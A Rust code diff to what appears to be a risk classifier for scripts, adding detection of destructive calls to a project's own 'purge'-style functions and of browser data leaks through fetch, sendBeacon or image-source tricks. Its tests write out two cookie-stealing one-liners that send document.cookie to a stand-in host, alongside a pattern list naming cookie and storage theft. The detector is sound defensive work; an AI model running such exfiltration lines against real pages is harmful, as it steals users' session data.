@@ -51,6 +51,9 @@ pub fn is_script(text: &str) -> bool {
                 || l.starts_with("const ") && l.contains('=')
         })
         || first_call(head)
+        || head.starts_with("fetch(")
+        || head.starts_with("(()")
+        || text.contains("document.") && text.contains('(')
 }
 
 /// `os.remove("x")`, `shutil.rmtree(p)`: a dotted name and a parenthesis.
@@ -183,6 +186,17 @@ fn name_before(text: &str, at: usize) -> &str {
         start -= 1;
     }
     text[start..at].trim_start_matches('.')
+}
+
+/// Leaves out calls of the house's own functions that end something of little
+/// worth (`purge_test_users()`), where it is not done to what others rely on.
+pub fn forgive(deeds: &mut Vec<Deed>, from: usize) {
+    let mut at = 0;
+    deeds.retain(|d| {
+        at += 1;
+        let own = at > from && d.does.starts_with(OWN);
+        !own || !crate::words::Words::of(&d.does).all().any(Senses::LIGHT)
+    });
 }
 
 /// What a script does by itself, and the texts it hands to a shell.
@@ -337,8 +351,26 @@ fn one(call: &Call, last: &str, text: &str, shells: &mut Vec<String>, deeds: &mu
                 ENDING,
             ));
         }
+        _ if name == last && call.inside.trim().is_empty() && ends_by_name(name) => {
+            deeds.push(Deed::new(
+                Sort::Destroy,
+                0.7,
+                &[OWN, name, "`"],
+                name,
+                ENDING.and(Senses::EXEC),
+            ));
+        }
         _ => cloud(call, last, deeds),
     }
+}
+
+/// How a call of a function of the house's own is told.
+const OWN: &str = "runs `";
+
+/// A function of the house's own that says it ends something: `purge_users()`.
+fn ends_by_name(name: &str) -> bool {
+    let words = crate::words::Words::of(name);
+    words.len() >= 2 && words.senses(0).any(Senses::DELETE)
 }
 
 /// Methods of cloud libraries: `s3.delete_bucket(Bucket="x")`.
@@ -375,7 +407,7 @@ fn cloud(call: &Call, last: &str, deeds: &mut Vec<Deed>) {
         "delete_alarms",
     ];
     let things = call.texts.join(" ");
-    if call.inside.contains("DryRun=True") || things.split(' ').any(super::deed::is_trial_place) {
+    if call.inside.contains("DryRun=True") || things.split(' ').any(super::place::is_trial_place) {
         return;
     }
     let deed = if ENDS.contains(&last) {
@@ -519,13 +551,29 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
                 | "https.request"
                 | "urlopen"
         ) || c.name == "fetch" && c.inside.contains("POST")
+            || matches!(
+                c.name.as_str(),
+                "fetch" | "navigator.sendBeacon" | "axios.get" | "requests.get"
+            ) && carries(&c.inside)
             || last == "sendmail"
     });
-    let Some(out) = out else { return };
+    // `new Image().src = 'https://…' + document.cookie` sends without a call.
+    let set = [".src", "location", ".href", ".action"]
+        .iter()
+        .any(|p| text.contains(p))
+        && carries(text);
+    let texts = match out {
+        Some(out) => out.texts.clone(),
+        None if set => literals(text),
+        None => return,
+    };
     let whole_environment = text.contains("dict(os.environ)")
         || text.contains("process.env)")
         || text.contains("json.dumps(os.environ")
         || text.contains("data=os.environ");
+    let page = ["document.cookie", "localStorage", "sessionStorage"]
+        .iter()
+        .find(|s| text.contains(**s));
     let file = calls
         .iter()
         .filter(|c| {
@@ -542,13 +590,13 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
         })
         .flat_map(|c| &c.texts)
         .find(|t| super::network::holds_secrets(t));
-    let what = match (file, whole_environment) {
-        (Some(file), _) => file.as_str(),
-        (None, true) => "the environment",
+    let what = match (file, whole_environment, page) {
+        (Some(file), ..) => file.as_str(),
+        (None, true, _) => "the environment",
+        (None, _, Some(page)) => page,
         _ => return,
     };
-    let host = out
-        .texts
+    let host = texts
         .iter()
         .find_map(|t| crate::target::url_host(t))
         .unwrap_or("the network");
@@ -562,6 +610,13 @@ fn leaks(text: &str, calls: &[Call], deeds: &mut Vec<Deed>) {
         host,
         Senses::SEND.and(Senses::UPLOAD).and(Senses::SHARE),
     ));
+}
+
+/// True when the arguments put what a page keeps into the address.
+fn carries(inside: &str) -> bool {
+    ["document.cookie", "localStorage", "sessionStorage"]
+        .iter()
+        .any(|s| inside.contains(s))
 }
 
 #[cfg(test)]
@@ -624,6 +679,14 @@ mod tests {
             ("iam.create_access_key(UserName='ops')", Sort::Access),
             ("ct.stop_logging(Name='org')", Sort::Guard),
             ("db.session.drop_all()", Sort::Destroy),
+            (
+                "fetch('https://x.example/c?k='+encodeURIComponent(document.cookie))",
+                Sort::Leak,
+            ),
+            (
+                "new Image().src='https://x.example/?c='+document.cookie",
+                Sort::Leak,
+            ),
         ] {
             assert_eq!(sorts(text), [sort], "{text}");
         }
